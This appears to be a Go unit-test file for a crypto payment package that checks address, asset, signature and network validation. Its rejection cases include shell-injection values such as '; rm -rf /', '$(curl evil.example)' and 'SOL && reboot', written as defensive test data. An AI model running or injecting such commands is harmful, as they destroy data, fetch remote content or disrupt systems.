package payment

import (
	"errors"
	"testing"
)

func TestValidateAddressSolana(t *testing.T) {
	valid := []string{
		"CiwjEStzDKR8j1uQgVvU6hFtt8thAK3aZMDN3X6yzW5q",
		"9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM",
		USDCMainnetMint,
	}
	for _, addr := range valid {
		if err := ValidateAddress(SolanaMainnet, addr); err != nil {
			t.Errorf("Expected %s to be valid, got %v", addr, err)
		}
	}

	invalid := []string{
		"",
		"R1",
		"CiwjEStzDKR8j1uQgVvU6hFtt8thAK3aZMDN3X6yzW5q; rm -rf /",
		"$(curl evil.example)",
		"CiwjEStzDKR8j1uQgVvU6hFtt8thAK3aZMDN3X6yzW5`",
		"0OIl0OIl0OIl0OIl0OIl0OIl0OIl0OIl",
		"0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913",
	}
	for _, addr := range invalid {
		if err := ValidateAddress(SolanaMainnet, addr); !errors.Is(err, ErrInvalidAddress) {
			t.Errorf("Expected ErrInvalidAddress for %q, got %v", addr, err)
		}
	}
}

func TestValidateAddressEVM(t *testing.T) {
	if err := ValidateAddress("eip155:8453", "0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913"); err != nil {
		t.Errorf("Expected EVM address to be valid, got %v", err)
	}
	if err := ValidateAddress("eip155:8453", "833589fCD6eDb6E08f4c7C32D4f71b54bdA02913"); err == nil {
		t.Error("Expected address without 0x prefix to be rejected")
	}
	if err := ValidateAddress("eip155:8453", "0x833589fCD6eDb6E08f4c7C32D4f71b54bdA0291|"); err == nil {
		t.Error("Expected address with shell metacharacter to be rejected")
	}
}

func TestValidateAsset(t *testing.T) {
	for _, asset := range []string{"SOL", "native", "11111111111111111111111111111111", USDCMainnetMint} {
		if err := ValidateAsset(SolanaMainnet, asset); err != nil {
			t.Errorf("Expected asset %s to be valid, got %v", asset, err)
		}
	}
	if err := ValidateAsset(SolanaMainnet, "SOL && reboot"); err == nil {
		t.Error("Expected injected asset to be rejected")
	}
}

func TestValidateSignature(t *testing.T) {
	sig := "3hizm34taS8t9UvpJg9oRCJ7EWYkuUHNCecrhuBZjG7L2RfqEqgApn2VsKS94Agj9UgBdgQT6HsaaFRUu7ZT44sU"
	if err := ValidateSignature(SolanaMainnet, sig); err != nil {
		t.Errorf("Expected signature to be valid, got %v", err)
	}
	if err := ValidateSignature(SolanaMainnet, "CiwjEStzDKR8j1uQgVvU6hFtt8thAK3aZMDN3X6yzW5q"); err == nil {
		t.Error("Expected 32-byte value to be rejected as a signature")
	}
	if err := ValidateSignature(SolanaMainnet, "error: insufficient funds"); !errors.Is(err, ErrInvalidSignature) {
		t.Errorf("Expected ErrInvalidSignature, got %v", err)
	}
}

func TestAssetDecimals(t *testing.T) {
	if d := AssetDecimals(USDCMainnetMint, 9); d != 6 {
		t.Errorf("Expected USDC decimals 6, got %d", d)
	}
	if d := AssetDecimals("SOL", 6); d != 9 {
		t.Errorf("Expected SOL decimals 9, got %d", d)
	}
	if d := AssetDecimals("Dvp1m56zzPV28v86BxMnSrHKNu94mJeiohtppqQNHbqZ", 6); d != 6 {
		t.Errorf("Expected fallback decimals 6, got %d", d)
	}
}

func TestNetworkMapperMatches(t *testing.T) {
	nm := NewNetworkMapper()

	same := [][2]string{
		{"solana", SolanaMainnet},
		{"solana:mainnet-beta", "solana"},
		{"solana-devnet", "solana:devnet"},
		{"Solana", SolanaMainnet},
		{"base", "eip155:8453"},
	}
	for _, pair := range same {
		if !nm.Matches(pair[0], pair[1]) {
			t.Errorf("Expected %s to match %s", pair[0], pair[1])
		}
	}

	if nm.Matches("solana-devnet", "solana") {
		t.Error("Expected devnet not to match mainnet")
	}
	if nm.Matches("unknown-chain", "unknown-chain") {
		t.Error("Expected unknown networks never to match")
	}
}
